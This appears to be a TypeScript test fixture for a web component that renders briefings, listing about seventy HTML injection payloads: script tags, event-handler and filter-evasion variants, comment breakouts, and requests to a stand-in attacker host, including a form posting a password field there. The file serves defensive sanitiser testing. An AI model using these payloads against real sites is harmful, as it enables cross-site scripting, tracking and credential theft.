import {ENEMY, type Attack, type AttackClass, type Harm} from '../attack.js';
import {asBlocks, everywhere, forged, PICTURE} from '../harbour.js';

/** HTML that is written wherever a briefing has words, in Markdown and in compiled JSON. */
export function html(name: string, does: Harm, code: string): Attack {
  return {
    name,
    does,
    markdown: code.includes('\n') ? asBlocks(code) : everywhere(code),
    json: forged(code),
    images: [PICTURE],
  };
}

/** HTML wherever text may be taken for HTML. */
export const HTML_SINKS: AttackClass = {
  name: 'HTML sinks',
  attacks: [
    html('A script element is written into the text', 'element', '<script>alert(1)</script>'),
    html('A script element names the file to run', 'element', `<script src="${ENEMY}/x.js"></script>`),
    html('A module script imports the file to run', 'element', `<script type="module">import '${ENEMY}/x.js'</script>`),
    html('A script element is written in capitals', 'element', '<SCRIPT>alert(1)</SCRIPT>'),
    html(
      'A script element has another one in its name, for filters that take one out',
      'element',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
    ),
    html('A script element is closed twice', 'element', '</script><script>alert(1)</script>'),

    html('An image that cannot be loaded has a handler', 'dialog', '<img src onerror=alert(1)>'),
    html('A handler is written in capitals', 'dialog', '<IMG SRC ONERROR=alert(1)>'),
    html('A handler stands after slashes instead of blanks', 'dialog', '<img/src/onerror=alert(1)>'),
    html('A handler has its code in entities', 'dialog', '<img src onerror="&#97;lert(1)">'),
    html('A handler stands behind an attribute without quotes', 'dialog', '<img src=data:, onerror=alert(1)//>'),
    html('A tag with a handler is not closed', 'dialog', '<img src onerror=alert(1) x="'),
    html('A tag with a handler has two angle brackets before it', 'dialog', '<<img src onerror=alert(1)>'),
    html('A tag with a handler goes over several lines', 'dialog', '<img\nsrc\nonerror="alert(1)"\n>'),
    html('An image of the old name has a handler', 'dialog', '<image src onerror=alert(1)>'),
    html('A frame runs a handler when it has loaded', 'dialog', '<iframe onload=alert(1)></iframe>'),
    html(
      'A frame holds a document with a script',
      'dialog',
      '<iframe srcdoc="<script>top.alert(1)</script>"></iframe>',
    ),
    html('A frame has a script as its URL', 'dialog', '<iframe src="javascript:top.alert(1)"></iframe>'),
    html(
      'A fold runs a handler when it opens',
      'dialog',
      '<details open ontoggle=alert(1)><summary>x</summary></details>',
    ),
    html(
      'A source of a video that cannot be loaded has a handler',
      'dialog',
      '<video><source onerror=alert(1)></video>',
    ),
    html('A sound that cannot be loaded has a handler', 'dialog', '<audio src onerror=alert(1)></audio>'),
    html('A style element runs a handler when it is read', 'dialog', '<style onload=alert(1)></style>'),
    html('A field takes the focus to run a handler', 'attribute', '<input autofocus onfocus=alert(1)>'),
    html(
      'An editable paragraph takes the focus to run a handler',
      'attribute',
      '<p contenteditable autofocus onfocus=alert(1)>x</p>',
    ),
    html('An animation runs a handler', 'attribute', '<p style="animation: x 1s" onanimationstart=alert(1)>x</p>'),
    html('A handler waits for the pointer', 'attribute', '<b onpointerover=alert(1)>x</b>'),
    html('A handler waits for a paste', 'attribute', '<b onpaste=alert(1)>x</b>'),
    html('A marquee runs a handler', 'attribute', '<marquee onstart=alert(1)>x</marquee>'),
    html('An element of an unknown name has a handler', 'attribute', '<x-y onclick=alert(1)>x</x-y>'),

    html('A comment is closed at once, and a handler follows in it', 'dialog', '<!--><img src onerror=alert(1)>-->'),
    html(
      'A comment is closed in an unusual way, and a handler follows',
      'dialog',
      '<!-- --!><img src onerror=alert(1)> -->',
    ),
    html(
      'A CDATA section is a comment in HTML, and a handler follows in it',
      'dialog',
      '<![CDATA[><img src onerror=alert(1)>]]>',
    ),
    html(
      'A processing instruction is a comment in HTML, and a handler follows in it',
      'dialog',
      '<?php ><img src onerror=alert(1)>?>',
    ),
    html('A document type ends early, and a handler follows', 'dialog', '<!doctype ><img src onerror=alert(1)>'),
    html('An end tag without a name is a comment, and a handler follows', 'dialog', '</ ><img src onerror=alert(1)>'),
    html('A text field is closed, and a handler follows', 'dialog', '<textarea></textarea><img src onerror=alert(1)>'),
    html('A title is closed, and a handler follows', 'dialog', '<title></title><img src onerror=alert(1)>'),

    html('A style element restyles what stands beside it', 'element', '<style>* {display: none !important}</style>'),
    html('A style element imports another sheet', 'request', `<style>@import "${ENEMY}/x.css"</style>`),
    html('A linked sheet restyles what stands beside it', 'request', `<link rel="stylesheet" href="${ENEMY}/x.css">`),
    html(
      'A style attribute covers the page',
      'attribute',
      '<div style="position: fixed; inset: 0; background: white">x</div>',
    ),
    html('A style attribute loads a picture', 'request', `<p style="background: url(${ENEMY}/x.png)">x</p>`),
    html('An image in HTML asks a host that the briefing names nowhere', 'request', `<img src="${ENEMY}/x.png">`),
    html('An image has a set of URLs', 'attribute', `<img srcset="${ENEMY}/x.png 1x">`),
    html(
      'A picture has a source for each screen',
      'element',
      `<picture><source srcset="${ENEMY}/x.png"><img></picture>`,
    ),
    html('A video has a poster', 'request', `<video poster="${ENEMY}/x.png"></video>`),
    html('A sound is loaded', 'request', `<audio src="${ENEMY}/x.ogg" preload="auto"></audio>`),
    html('A frame shows another site', 'request', `<iframe src="${ENEMY}/"></iframe>`),
    html('An object shows another site', 'element', `<object data="${ENEMY}/x"></object>`),
    html('An embedded thing shows another site', 'element', `<embed src="${ENEMY}/x">`),
    html('A button is an image', 'element', `<input type="image" src="${ENEMY}/x.png" onerror="alert(1)">`),
    html('A link has the browser look up a host', 'element', `<link rel="dns-prefetch" href="${ENEMY}/">`),
    html('A link has the browser fetch a page beforehand', 'element', `<link rel="prefetch" href="${ENEMY}/">`),
    html(
      'A link has the browser fetch a module beforehand',
      'element',
      `<link rel="modulepreload" href="${ENEMY}/x.js">`,
    ),
    html(
      'A table has a picture as its ground',
      'attribute',
      `<table background="${ENEMY}/x.png"><tr><td>x</td></tr></table>`,
    ),
    html(
      'A link tells another host that it is followed',
      'attribute',
      `<a href="https://news.example/" ping="${ENEMY}/">x</a>`,
    ),

    html(
      'A form sends its fields to another host',
      'element',
      `<form action="${ENEMY}/"><input name="password" type="password"></form>`,
    ),
    html('A form has a script as its URL', 'element', '<form action="javascript:alert(1)"><button>x</button></form>'),
    html('A button gives its form another URL', 'attribute', '<button formaction="javascript:alert(1)">x</button>'),
    html('A link opens in place of the page', 'attribute', `<a href="https://news.example/" target="_top">x</a>`),
    html('A link saves a file', 'attribute', '<a href="https://news.example/x.exe" download>x</a>'),
    html('A base moves every relative URL to another host', 'element', `<base href="${ENEMY}/">`),
    html('A refresh leaves the page', 'element', `<meta http-equiv="refresh" content="3600; url=${ENEMY}/">`),
    html(
      'A policy of its own is set',
      'element',
      '<meta http-equiv="content-security-policy" content="script-src \'none\'">',
    ),
    html('A dialog is open at once', 'element', '<dialog open>x</dialog>'),
    html(
      'A button opens a popover of the card',
      'attribute',
      '<button type="button" commandfor="harbour--popover:one" command="show-popover">x</button>',
    ),
    html('A slot shows what the page holds for the card', 'attribute', '<slot name="x"></slot>'),
    html(
      'Another card in the text asks another host',
      'element',
      `<caucasus-brief src="${ENEMY}/x.md" loading="eager"></caucasus-brief>`,
    ),
    html('An element is made another one by an attribute', 'attribute', '<p is="caucasus-brief">x</p>'),
    html(
      'A choice, a field and a label stand in the text',
      'element',
      '<select><option>x</option></select><textarea>x</textarea><label>x</label>',
    ),
    html(
      'An attribute is there twice',
      'attribute',
      '<a href="https://news.example/" onclick=alert(1) onclick="x">x</a>',
    ),
    html('A quote ends the attribute that words may stand in', 'attribute', '"><b onclick=alert(1)>x</b><b title="'),
    html('A single quote ends the attribute that words may stand in', 'attribute', `'><b onclick='alert(1)'>x</b>`),
  ],
};
